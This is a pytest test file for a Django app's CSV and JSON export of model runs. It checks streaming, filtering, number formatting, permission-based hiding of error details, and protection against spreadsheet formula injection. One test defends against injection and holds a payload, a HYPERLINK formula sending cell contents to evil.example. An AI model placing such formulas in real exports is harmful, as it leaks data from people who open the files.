"""The selection as a file: every column, streamed, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from layer_runs import export as export_module
from layer_runs import querysets
from layer_runs.export import cell
from layer_runs.models import LayerRun
from layer_runs.tests.factories import LayerRunFactory

COLUMNS = [field.attname for field in LayerRun._meta.concrete_fields]
SECRET = ("errors", "error_preview", "error_node", "notes")


csv.field_size_limit(10_000_000)


@pytest.fixture
def export(staff_client):
    """Get an export and read it back: its rows as dicts of text (CSV) or of values (JSON)."""

    def export(kind, query="", client=staff_client):
        response = client.get(reverse("layer_runs:export", args=[kind]) + query)
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode()
        if kind == "csv":
            return list(csv.DictReader(io.StringIO(text, newline="")))
        return [json.loads(line) for line in text.splitlines()]

    return export


def test_it_holds_every_column_of_the_model_in_its_order(staff_client, export):
    LayerRunFactory()
    response = staff_client.get(reverse("layer_runs:export", args=["csv"]))
    assert list(response.streaming_content)[0].decode() == ",".join(COLUMNS) + "\r\n"
    assert list(export("json")[0]) == COLUMNS


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_it_holds_the_newest_run_first_and_every_run_once(export, kind):
    runs = LayerRun.objects.bulk_create(LayerRunFactory.build_batch(30, started_at=LayerRunFactory.build().started_at))
    LayerRunFactory(ago=timedelta(hours=2))
    got = [row["id"] for row in export(kind)]
    assert got == [run.pk for run in LayerRun.objects.newest_first()]
    assert len(got) == len(runs) + 1


@pytest.mark.parametrize("kind", ["csv", "json"])
@pytest.mark.parametrize(
    "query",
    [
        "",
        "?period=all",
        "?status=failed",
        "?layer_name=a&layer_name=b",
        "?q=connection",
        "?since=2020-01-01",
        "?layer_name=nobody",
        "?status=failed&page=2&per_page=20&sort=cost&evil=1",
    ],
)
def test_it_holds_the_same_runs_as_the_page(export, staff_client, dom, kind, query):
    for name in "abc":
        LayerRunFactory(layer_name=name)
        LayerRunFactory(layer_name=name, failing=True)
        LayerRunFactory(layer_name=name, ago=timedelta(days=20), failing=True)
    page = dom(staff_client.get(f"{reverse('layer_runs:list')}{query or '?'}&page=1&per_page=100"))
    assert {row["id"] for row in export(kind, query)} == set(page.run_ids)


@pytest.mark.parametrize("kind", ["csv", "json"])
@pytest.mark.parametrize("query", ["?status=bogus", "?since=garbage", "?period=x", f"?q={'x' * 201}", "?q=%00"])
def test_q09_it_answers_a_mistake_with_a_message_and_no_file(staff_client, kind, query):
    LayerRunFactory()
    response = staff_client.get(reverse("layer_runs:export", args=[kind]) + query)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response.headers
    assert len(response.content) > 20


def test_it_knows_no_other_kind(staff_client):
    for kind in ("xml", "CSV", "errors", "raw"):
        assert staff_client.get(reverse("layer_runs:export", args=[kind])).status_code == 404


@pytest.mark.parametrize(
    ("kind", "content_type", "name"),
    [
        ("csv", "text/csv; charset=utf-8", "layer-runs.csv"),
        ("json", "application/x-ndjson; charset=utf-8", "layer-runs.jsonl"),
    ],
)
def test_it_is_a_download(staff_client, kind, content_type, name):
    response = staff_client.get(reverse("layer_runs:export", args=[kind]))
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_t17_it_is_written_while_the_runs_are_read(staff_client, monkeypatch, kind):
    monkeypatch.setattr(querysets, "BATCH", 50)
    monkeypatch.setattr(export_module, "BATCH", 50)
    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(230))
    made = []
    from_db = LayerRun.from_db.__func__
    monkeypatch.setattr(LayerRun, "from_db", classmethod(lambda cls, *args: made.append(1) or from_db(cls, *args)))
    response = staff_client.get(reverse("layer_runs:export", args=[kind]))
    assert response.streaming
    # Begun, so that a failure is an answer of its own, and no more.
    assert len(made) <= 50
    lines = iter(response.streaming_content)
    for number in range(1, 231):
        next(lines)
        assert number - 1 <= len(made) <= number + 50
    assert sum(1 for _line in lines) == (kind == "csv")
    assert len(made) == 230


def test_t17_it_keeps_no_query_open_while_its_reader_takes_its_time(staff_client, monkeypatch):
    monkeypatch.setattr(export_module, "BATCH", 2)
    runs = [LayerRunFactory(ago=timedelta(minutes=minute)) for minute in range(1, 6)]
    lines = iter(staff_client.get(reverse("layer_runs:export", args=["json"])).streaming_content)
    got = [json.loads(next(lines))["id"]]
    # Neither is one there twice, nor one that was not selected, nor one that is gone.
    LayerRunFactory(ago=timedelta(minutes=4, seconds=30))
    LayerRun.objects.filter(pk=runs[3].pk).delete()
    LayerRun.objects.filter(pk=runs[4].pk).update(started_at=runs[0].started_at)
    got += [json.loads(line)["id"] for line in lines]
    assert got == [runs[0].pk, runs[1].pk, runs[2].pk, runs[4].pk]


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_t17_it_costs_a_query_for_every_few_hundred_runs(export, django_assert_num_queries, kind):
    LayerRunFactory(failing=True)
    with CaptureQueriesContext(connection) as queries:
        export(kind)
    LayerRun.objects.bulk_create(LayerRunFactory.build_batch(querysets.BATCH))
    with django_assert_num_queries(len(queries) + 1):
        assert len(export(kind)) == querysets.BATCH + 1


# -- what a cell holds


@pytest.mark.parametrize(
    "first",
    [*("=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0=", "\ufeff=", "\u200b@", "\u3000-"), *"＝＋－＠", " ＝"],
    ids=ascii,
)
def test_d07_it_lets_no_spreadsheet_take_a_text_for_a_formula(export, first):
    text = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
    run = LayerRunFactory(layer_name=text, model_name=text, errors=[{"topic": "t", "error": text, "node": text}])
    (row,) = export("csv")
    for name in ("layer_name", "model_name", "error_preview", "error_node"):
        assert row[name] == f"'{text}"
    assert json.loads(row["errors"]) == run.errors
    (line,) = export("json")
    assert line["layer_name"] == text


@pytest.mark.parametrize(
    "text",
    ["a,b", 'a "quoted" b', "two\nlines", "two\r\nlines", "a;b", "ü 💥 \u202e", "'quoted", "1-2", " a", "a =1", "ー"],
)
def test_it_gives_every_other_text_back_as_it_is(export, text):
    LayerRunFactory(layer_name=text)
    assert export("csv")[0]["layer_name"] == text


def test_its_numbers_stay_numbers_negative_ones_too(export):
    LayerRunFactory(took=timedelta(seconds=-5), tokens_total=1_234_567, insights_created=1_000)
    (row,) = export("csv")
    assert (row["duration_ms"], row["tokens_total"], row["insights_created"]) == ("-5000", "1234567", "1000")
    assert export("json")[0]["duration_ms"] == -5000


@pytest.mark.parametrize("cost", ["0", "0.1", "0.000000001", "999999.999999999", "0.30"])
def test_its_money_is_exact_and_never_in_powers_of_ten(export, cost):
    LayerRunFactory(estimated_cost_usd=cost)
    for kind in ("csv", "json"):
        text = export(kind)[0]["estimated_cost_usd"]
        assert Decimal(text) == Decimal(cost)
        assert "e" not in text.casefold()


def test_it_is_the_same_whatever_the_language(export, settings):
    settings.USE_THOUSAND_SEPARATOR = True
    settings.LANGUAGE_CODE = "de"
    LayerRunFactory(tokens_total=1_234_567, estimated_cost_usd="1234.5")
    (row,) = export("csv")
    assert (row["tokens_total"], Decimal(row["estimated_cost_usd"])) == ("1234567", Decimal("1234.5"))


def test_its_times_can_be_read_back_to_the_microsecond(export):
    run = LayerRunFactory()
    (row,) = export("csv")
    assert datetime.fromisoformat(row["started_at"]) == run.started_at
    (line,) = export("json")
    assert abs(datetime.fromisoformat(line["started_at"]) - run.started_at) < timedelta(milliseconds=1)


def test_what_is_missing_is_empty(export):
    LayerRunFactory(
        completed_at=None, tokens_total=None, tokens_input=None, tokens_output=None, estimated_cost_usd=None
    )
    (row,) = export("csv")
    assert {row[name] for name in ("completed_at", "duration_ms", "tokens_total", "estimated_cost_usd")} == {""}
    (line,) = export("json")
    assert line["completed_at"] is line["tokens_total"] is line["estimated_cost_usd"] is None


def test_its_errors_are_json_in_both(export):
    run = LayerRunFactory(failing=True)
    assert json.loads(export("csv")[0]["errors"]) == run.errors
    assert export("json")[0]["errors"] == run.errors


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_d_it_holds_every_odd_row_as_one(export, odd_runs, kind):
    rows = {row["id"]: row for row in export(kind, "?period=all")}
    assert rows.keys() == odd_runs.keys()
    for pk, run in odd_runs.items():
        if kind == "json":
            assert rows[pk]["errors"] == run.errors
        elif isinstance(run.errors, (list, dict)):
            assert json.loads(rows[pk]["errors"]) == run.errors


def test_it_holds_no_error_for_those_who_may_not_see_details(export, blind_client):
    LayerRunFactory(failing=True, notes={"secret": "Connection"})
    for kind in ("csv", "json"):
        (row,) = export(kind, client=blind_client)
        assert list(row) == [name for name in COLUMNS if name not in SECRET]
        assert "onnection" not in str(row)
        assert export(kind, "?q=connection", client=blind_client) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (-5, -5),
        (0, 0),
        ("", ""),
        ("-5", "'-5"),
        ("plain", "plain"),
        ([], "[]"),
        ({"a": "ü"}, '{"a": "ü"}'),
        ("＝1", "'＝1"),
    ],
)
def test_a_cell_is_safe_whatever_its_value(value, expected):
    assert cell(value) == expected
